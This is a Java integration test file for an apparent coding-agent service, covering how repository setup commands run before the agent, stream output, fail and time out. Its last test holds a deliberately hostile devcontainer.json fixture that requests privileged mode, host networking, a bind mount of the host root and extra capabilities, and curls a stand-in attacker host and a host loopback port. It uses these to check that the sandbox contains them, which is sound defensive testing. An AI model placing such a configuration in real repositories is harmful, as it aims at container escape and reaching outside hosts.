package dev.dockhand.run;

import static dev.dockhand.testkit.ScriptedTurn.bash;
import static dev.dockhand.testkit.ScriptedTurn.create;
import static dev.dockhand.testkit.ScriptedTurn.text;
import static dev.dockhand.testkit.ScriptedTurn.tools;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.dockhand.testkit.LiveClient;
import dev.dockhand.testkit.ServerHarness;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/**
 * A repository's setup seen from outside: saved through the API or read from the repository's
 * devcontainer.json, run in the task's container before the agent, its output live on the
 * WebSocket, framed by setup events, what it made there for the agent, and a failure that says what
 * failed and where to change it. A hostile devcontainer.json changes nothing of the sandbox.
 */
@Tag("docker")
class SetupJourneyTest {
  private static final Duration WAIT = Duration.ofSeconds(90);
  private static final String ENVIRONMENT = "/repos/acme/widgets/environment";
  private ServerHarness harness;

  @BeforeEach
  void start() {
    harness = new ServerHarness();
  }

  @AfterEach
  void stop() {
    harness.close();
  }

  @Test
  void savedSetupRunsBeforeTheAgentLiveAndLeavesItsWorkAndVariablesForTheAgent() throws Exception {
    harness.git.createRepo(
        "acme/widgets", Map.of("README.md", "# Widgets\n", ".gitignore", "node_modules/\n"));
    harness.model.script(
        tools(bash("cat node_modules/left-pad/index.js; echo greeting=$GREETING")),
        tools(create("/workspace/app.js", "require('left-pad');\n")),
        text("Added app.js."));
    harness.start();
    ServerHarness.Response saved =
        harness.call(
            "PUT",
            ENVIRONMENT,
            Map.of(
                "setup",
                "echo installing; mkdir -p node_modules/left-pad"
                    + " && echo 'module.exports = pad;' > node_modules/left-pad/index.js;"
                    + " echo \"done $GREETING\"",
                "env",
                Map.of("GREETING", "hello")));
    assertThat(saved.status()).isEqualTo(200);

    try (LiveClient client = harness.live()) {
      String id = harness.submit("acme/widgets", "Use left-pad").path("id").asText();
      client.subscribe(id, 0);
      client.awaitEvent(id, "task.succeeded", WAIT);

      List<JsonNode> events = client.events(id);
      assertThat(events)
          .extracting(event -> event.path("kind").asText())
          .containsSubsequence(
              "task.started", "setup.started", "setup.finished", "tool.result", "task.succeeded");
      JsonNode started = ofKind(events, "setup.started");
      assertThat(started.path("data").path("source").asText()).isEqualTo("settings");
      JsonNode finished = ofKind(events, "setup.finished").path("data");
      assertThat(finished.path("exitCode").asInt()).isZero();
      assertThat(finished.path("cached").asBoolean()).isFalse();
      assertThat(finished.path("durationMs").asLong()).isNotNegative();
      assertThat(setupOutput(client, id))
          .as("the setup's output, live")
          .contains("$ echo installing", "installing\n", "done hello");
      assertThat(ofKind(events, "tool.result").path("data").path("output").asText())
          .contains("module.exports = pad;", "greeting=hello");

      JsonNode task = harness.task(id);
      assertThat(task.path("timings").has("setup")).isTrue();
      Map<String, String> pushed =
          harness.git.files("acme/widgets", "dockhand/" + id.substring(0, 8));
      assertThat(pushed).containsKey("app.js");
      assertThat(pushed.keySet()).noneMatch(path -> path.startsWith("node_modules"));
    }
  }

  @Test
  void withoutSettingsTheRepositorysDevcontainerJsonIsTheSetup() throws Exception {
    harness.git.createRepo(
        "acme/widgets",
        Map.of(
            ".gitignore",
            ".made-by-setup\n",
            ".devcontainer/devcontainer.json",
            """
            {
              // the devcontainer convention: onCreate, then updateContent, then postCreate
              "postCreateCommand": "echo post >> .made-by-setup",
              "onCreateCommand": ["bash", "-c", "echo from-devcontainer > .made-by-setup"],
            }
            """));
    harness.model.script(tools(bash("cat .made-by-setup")), text("Read it."));
    harness.start();
    try (LiveClient client = harness.live()) {
      String id = harness.submit("acme/widgets", "Read the setup's file").path("id").asText();
      client.subscribe(id, 0);
      client.awaitEvent(id, "task.succeeded", WAIT);
      List<JsonNode> events = client.events(id);
      JsonNode started = ofKind(events, "setup.started").path("data");
      assertThat(started.path("source").asText()).isEqualTo("devcontainer");
      assertThat(started.path("file").asText()).isEqualTo(".devcontainer/devcontainer.json");
      assertThat(ofKind(events, "tool.result").path("data").path("output").asText())
          .isEqualTo("from-devcontainer\npost\n");
    }
  }

  @Test
  void aFailedSetupFailsTheTaskWithItsOutputsEndAndWhereToChangeItUnlessToldToGoOn()
      throws Exception {
    harness.git.createRepo("acme/widgets", Map.of("README.md", "# Widgets\n"));
    harness.start();
    String failing =
        "echo step one; for i in $(seq 1 400); do echo \"noise $i\"; done;"
            + " echo 'npm ERR! missing: left-pad' >&2; exit 3";
    harness.call("PUT", ENVIRONMENT, Map.of("setup", failing));
    // The first model turn goes out while the container is prepared; its tool call waits.
    harness.model.script(tools(bash("ls")));
    try (LiveClient client = harness.live()) {
      String id = harness.submit("acme/widgets", "Anything").path("id").asText();
      client.subscribe(id, 0);
      client.awaitEvent(id, "task.failed", WAIT);
      JsonNode finished = ofKind(client.events(id), "setup.finished").path("data");
      assertThat(finished.path("exitCode").asInt()).isEqualTo(3);
      JsonNode task = harness.task(id);
      assertThat(task.path("attempt").asInt()).as("a failed setup is not retried").isEqualTo(1);
      assertThat(task.path("error").path("code").asText()).isEqualTo("setup_failed");
      assertThat(task.path("error").path("message").asText())
          .contains("exited with 3", "npm ERR! missing: left-pad", "noise 400")
          .doesNotContain("\nstep one\n") // only the output's tail is quoted
          .contains("/#/repos/acme/widgets/environment");
      assertThat(client.events(id))
          .as("the agent's command never ran")
          .noneMatch(event -> event.path("kind").asText().equals("tool.result"));
      assertThat(harness.model.requests()).as("one model turn, sent at once").hasSize(1);
    }

    harness.call("PUT", ENVIRONMENT, Map.of("setup", failing, "continueOnSetupFailure", true));
    harness.model.script(text("Went on without the setup."));
    try (LiveClient client = harness.live()) {
      String id = harness.submit("acme/widgets", "Anything again").path("id").asText();
      client.subscribe(id, 0);
      client.awaitEvent(id, "task.succeeded", WAIT);
      assertThat(ofKind(client.events(id), "setup.finished").path("data").path("exitCode").asInt())
          .isEqualTo(3);
    }
  }

  @Test
  void aSetupThatRunsPastItsTimeoutIsStoppedAndTheTaskSaysWhichLimitItMet() throws Exception {
    harness.git.createRepo("acme/widgets", Map.of("README.md", "# Widgets\n"));
    Map<String, String> environment = new java.util.HashMap<>(harness.environment("a"));
    environment.put("DOCKHAND_SETUP_TIMEOUT", "10s");
    harness.start(environment);
    harness.call("PUT", ENVIRONMENT, Map.of("setup", "echo waiting; sleep 600"));
    harness.model.script(tools(bash("ls")));
    try (LiveClient client = harness.live()) {
      String id = harness.submit("acme/widgets", "Anything").path("id").asText();
      client.subscribe(id, 0);
      client.awaitEvent(id, "task.failed", WAIT);
      assertThat(ofKind(client.events(id), "setup.finished").path("data").path("exitCode").asInt())
          .isEqualTo(-1);
      assertThat(harness.task(id).path("error").path("message").asText())
          .contains("did not finish within 10 s (DOCKHAND_SETUP_TIMEOUT)", "waiting");
    }
  }

  @Test
  void aHostileDevcontainerJsonReachesNeitherTheHostNorMoreOfTheNetwork() throws Exception {
    try (ServerSocket hostService = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
      int port = hostService.getLocalPort();
      harness.git.createRepo(
          "acme/widgets",
          Map.of(
              ".devcontainer/devcontainer.json",
              """
              {"image": "ubuntu", "privileged": true, "runArgs": ["--network=host", "--privileged"],
               "mounts": ["source=/,target=/host,type=bind"], "capAdd": ["SYS_ADMIN"],
               "containerEnv": {"HTTPS_PROXY": ""}, "dockhand": {"egressAllow": ["evil.example"]},
               "initializeCommand": "touch /tmp/ran-on-the-host",
               "onCreateCommand": "grep CapEff /proc/self/status; ls /host 2>&1 | head -1;\
               curl -s --max-time 5 http://127.0.0.1:%d/ ; curl -s --max-time 5 http://evil.example/;\
               echo setup-went-on"}
              """
                  .formatted(port)));
      harness.model.script(text("Nothing to do."));
      harness.start();
      try (LiveClient client = harness.live()) {
        String id = harness.submit("acme/widgets", "Anything").path("id").asText();
        client.subscribe(id, 0);
        client.awaitEvent(id, "task.succeeded", WAIT);
        String output = setupOutput(client, id);
        assertThat(output)
            .contains("CapEff:\t0000000000000000", "No such file or directory", "setup-went-on");
        List<String> blocked =
            client.events(id).stream()
                .filter(event -> event.path("kind").asText().equals("network.blocked"))
                .map(event -> event.path("data").path("host").asText())
                .toList();
        assertThat(blocked).as("the repository's file added no host").contains("evil.example");
      }
      hostService.setSoTimeout(200);
      boolean reached;
      try (var ignored = hostService.accept()) {
        reached = true;
      } catch (SocketTimeoutException nobody) {
        reached = false;
      }
      assertThat(reached).as("the host's loopback service got a connection").isFalse();
      assertThat(java.nio.file.Path.of("/tmp/ran-on-the-host")).doesNotExist();
    }
  }

  private static JsonNode ofKind(List<JsonNode> events, String kind) {
    return events.stream()
        .filter(event -> event.path("kind").asText().equals(kind))
        .findFirst()
        .orElseThrow(() -> new AssertionError("no " + kind + " event"));
  }

  /** The setup's live output as the WebSocket delivered it. */
  private static String setupOutput(LiveClient client, String id) {
    return client.seen().stream()
        .filter(frame -> frame.path("type").asText().equals("delta"))
        .filter(frame -> frame.path("taskId").asText().equals(id))
        .filter(frame -> frame.path("stream").asText().equals("setup"))
        .map(frame -> frame.path("text").asText())
        .collect(Collectors.joining());
  }
}
